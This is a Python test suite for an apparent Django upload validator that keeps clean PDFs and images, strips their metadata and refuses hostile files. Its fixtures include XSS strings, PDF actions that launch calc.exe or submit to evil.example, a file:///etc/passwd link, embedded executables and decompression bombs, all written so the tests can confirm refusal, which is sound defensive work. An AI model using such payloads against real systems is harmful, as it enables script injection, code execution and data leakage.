"""An upload is what its bytes say: read whole, drawn anew, or refused in words."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageFile

from foundation.records import papers, pdfs
from foundation.records.papers import read_paper
from tests.uploads import (
    CANARY,
    at_a_click,
    at_opening,
    bomb,
    compressed_pdf,
    dictionary,
    pdf,
    photograph,
    picture,
    saved,
)


def refused(content: bytes) -> str:
    """The sentence a file is refused with."""
    ImageFile.LOAD_TRUNCATED_IMAGES = True  # as in a process that has drawn a document
    with pytest.raises(ValidationError) as refusal:
        read_paper(content)
    [sentence] = refusal.value.messages
    return sentence


def opened(content: bytes) -> Image.Image:
    return Image.open(io.BytesIO(content))


@pytest.mark.parametrize(
    ("content", "media_type", "pages"),
    [
        pytest.param(pdf(3), "application/pdf", 3, id="a PDF"),
        pytest.param(compressed_pdf(), "application/pdf", 1, id="a compressed PDF"),
        pytest.param(picture("JPEG"), "image/jpeg", 1, id="a JPEG"),
        pytest.param(picture("JPEG", mode="L"), "image/jpeg", 1, id="a grey JPEG"),
        pytest.param(picture("JPEG", mode="CMYK"), "image/jpeg", 1, id="a printer's JPEG"),
        pytest.param(picture("PNG"), "image/png", 1, id="a PNG"),
        pytest.param(picture("PNG", mode="1"), "image/png", 1, id="black and white"),
        pytest.param(picture("PNG", mode="P"), "image/png", 1, id="a palette"),
    ],
)
def test_a_paper_is_kept(content, media_type, pages):
    paper = read_paper(content)
    assert (paper.media_type, paper.pages) == (media_type, pages)


def test_a_pdf_is_kept_to_the_byte():
    assert read_paper(pdf()).content == pdf()


def test_a_photograph_is_upright_and_says_nothing_but_its_pixels():
    content = photograph()
    assert CANARY.encode() in content
    kept = read_paper(content).content
    assert opened(kept).size == (40, 60)
    assert opened(kept).convert("L").getpixel((20, 5)) < 60
    assert dict(opened(kept).getexif()) == {}
    assert CANARY.encode() not in kept
    assert {"exif", "comment", "icc_profile", "xmp"} & set(opened(kept).info) == set()


def test_what_hangs_behind_a_picture_is_left_behind():
    hidden = io.BytesIO()
    with zipfile.ZipFile(hidden, "w") as archive:
        archive.writestr("run.html", "<script>alert(1)</script>")
    for kind in ("JPEG", "PNG"):
        kept = read_paper(picture(kind) + hidden.getvalue()).content
        assert b"run.html" not in kept
        assert b"PK" not in kept


def test_words_in_a_picture_are_left_behind():
    from PIL.PngImagePlugin import PngInfo

    words = PngInfo()
    words.add_text("Comment", f"<script>{CANARY}</script>")
    kept = read_paper(picture("PNG", pnginfo=words)).content
    assert CANARY.encode() not in kept


def test_a_see_through_picture_lies_on_white_paper():
    glass = saved(Image.new("RGBA", (4, 4), (0, 0, 0, 0)), "PNG")
    assert opened(read_paper(glass).content).getpixel((1, 1)) == (255, 255, 255)


def test_a_scan_in_many_greys_keeps_its_greys():
    scan = saved(Image.new("I;16", (4, 4), 32_768), "PNG")
    assert opened(read_paper(scan).content).getpixel((1, 1)) == 128


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"", papers.EMPTY),
        (b"<html><script>alert(1)</script>", papers.ANOTHER_KIND),
        (
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            papers.ANOTHER_KIND,
        ),
        (b"GIF89a\x01\x00\x01\x00", papers.ANOTHER_KIND),
        (b"PK\x03\x04word/document.xml", papers.ANOTHER_KIND),
        (b"MZ\x90\x00", papers.ANOTHER_KIND),
        (b"\n%PDF-1.7 not at the beginning", papers.ANOTHER_KIND),
        (b"\xff\xd8\xff", papers.DAMAGED),
        (picture("JPEG", size=(400, 400))[:-900], papers.DAMAGED),
        (picture("PNG")[:-30], papers.DAMAGED),
        (b"\x89PNG\r\n\x1a\n" + picture("JPEG"), papers.DAMAGED),
        (b"\xff\xd8\xff<script>alert(1)</script>", papers.DAMAGED),
        (b"\x89PNG\r\n\x1a\n<html>", papers.DAMAGED),
        (b"%PDF-1.7\n<script>alert(1)</script>", pdfs.UNREADABLE),
        (b"%PDF-", pdfs.UNREADABLE),
        (pdf()[:200], pdfs.UNREADABLE),
        (pdf(lock="secret"), pdfs.LOCKED),
        (pdf(pdfs.MOST_PAGES + 1), pdfs.TOO_LONG),
    ],
)
def test_what_is_no_paper_is_refused_in_words(content, sentence):
    assert refused(content) == sentence


@pytest.mark.parametrize("size", [(8_001, 5_000), (60_000, 60_000), (2**30, 2**30)])
def test_a_small_file_that_unfolds_into_a_huge_picture_is_not_opened(size):
    assert refused(bomb(*size)) == papers.TOO_MANY_PIXELS


def test_a_text_in_a_picture_that_unfolds_is_refused():
    from PIL.PngImagePlugin import PngInfo

    words = PngInfo()
    words.add_text("Comment", "x" * 30_000_000, zip=True)
    assert refused(picture("PNG", pnginfo=words)) == papers.DAMAGED


def test_a_file_of_fifteen_megabytes_is_the_largest(monkeypatch):
    monkeypatch.setattr(papers, "MOST_BYTES", len(pdf()))
    assert read_paper(pdf()).pages == 1
    assert refused(pdf() + b"\n") == papers.TOO_LARGE


def a_file_inside(writer):
    writer.add_attachment("run.exe", b"MZ")


def a_film(writer):
    from pypdf.annotations import Link

    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://a.example/"))
    film = writer.pages[0]["/Annots"][0].get_object()
    film.update(dictionary(Subtype="/RichMedia", RichMediaContent="x"))


@pytest.mark.parametrize(
    ("content", "what"),
    [
        pytest.param(pdf(add=at_opening(S="/JavaScript", JS="app.alert(1)")), "JavaScript",
                     id="js at opening"),
        pytest.param(pdf(add=at_a_click(S="/JavaScript", JS="app.alert(1)")), "JavaScript",
                     id="js at a click"),
        pytest.param(compressed_pdf(OpenAction="<</S/JavaScript/JS(app.alert(1))>>"),
                     "JavaScript", id="js in a compressed object"),
        pytest.param(compressed_pdf(OpenAction="<</S/J#61vaScript/J#53(app.alert(1))>>"),
                     "JavaScript", id="js under another spelling"),
        pytest.param(compressed_pdf(AA="<</WC<</S/JavaScript/JS(app.alert(1))>>>>"),
                     "JavaScript", id="js at closing"),
        pytest.param(compressed_pdf(OpenAction="<</S/GoTo/Next[<</S/Launch/F(calc)>>]>>"),
                     "another program", id="a program after a jump"),
        pytest.param(pdf(add=at_opening(S="/Launch", F="calc.exe")), "another program",
                     id="a program"),
        pytest.param(pdf(add=at_opening(S="/SubmitForm", F="http://evil.example/")),
                     "sends itself", id="a form"),
        pytest.param(compressed_pdf(OpenAction="<</S/GoToR/F(//evil.example/x)>>"),
                     "another file", id="a link to another file"),
        pytest.param(pdf(add=a_file_inside), "a hidden file", id="a file inside"),
        pytest.param(compressed_pdf(Names="<</EmbeddedFiles<</Names[]>>>>"),
                     "a hidden file", id="a list of files"),
        pytest.param(pdf(add=a_film), "a film or sound", id="a film"),
        pytest.param(compressed_pdf(AcroForm="<</XFA(x)>>"), "XFA", id="an XFA form"),
        pytest.param(pdf(add=at_a_click(S="/URI", URI="javascript:alert(1)")),
                     "not an address of the web", id="a link that is a program"),
        pytest.param(pdf(add=at_a_click(S="/URI", URI="file:///etc/passwd")),
                     "not an address of the web", id="a link into the machine"),
        pytest.param(pdf() + b"\n9 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj",
                     "JavaScript", id="js outside the table of contents"),
    ],
)  # fmt: skip
def test_a_pdf_that_could_run_something_is_refused(content, what):
    sentence = refused(content)
    assert what in sentence
    assert sentence.endswith("Print it to a new PDF and try again.")


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(
            pdf(add=at_a_click(S="/URI", URI="https://lab.example/")), id="a link"
        ),
        pytest.param(compressed_pdf(OpenAction="[3 0 R/Fit]"), id="opens at a page"),
        pytest.param(compressed_pdf(Title="(About JavaScript)"), id="words about it"),
    ],
)
def test_an_ordinary_pdf_of_a_laboratory_is_kept(content):
    assert read_paper(content).content == content


CORPUS = [pdf(2, add=at_a_click(S="/URI", URI="https://a.example/")), compressed_pdf(),
          picture("JPEG"), picture("PNG"), photograph()]  # fmt: skip


@settings(max_examples=300)
@given(
    st.sampled_from(CORPUS),
    st.lists(st.tuples(st.floats(0, 1), st.binary(max_size=6)), max_size=6),
)
def test_a_damaged_file_is_kept_or_refused_and_never_a_fault_of_ours(content, changes):
    for where, what in changes:
        place = int(where * len(content))
        content = content[:place] + what + content[place + len(what) :]
    try:
        said = str(read_paper(content).pages)
    except ValidationError as refusal:
        [said] = refusal.messages
    assert said.isdigit() or said.endswith(".")
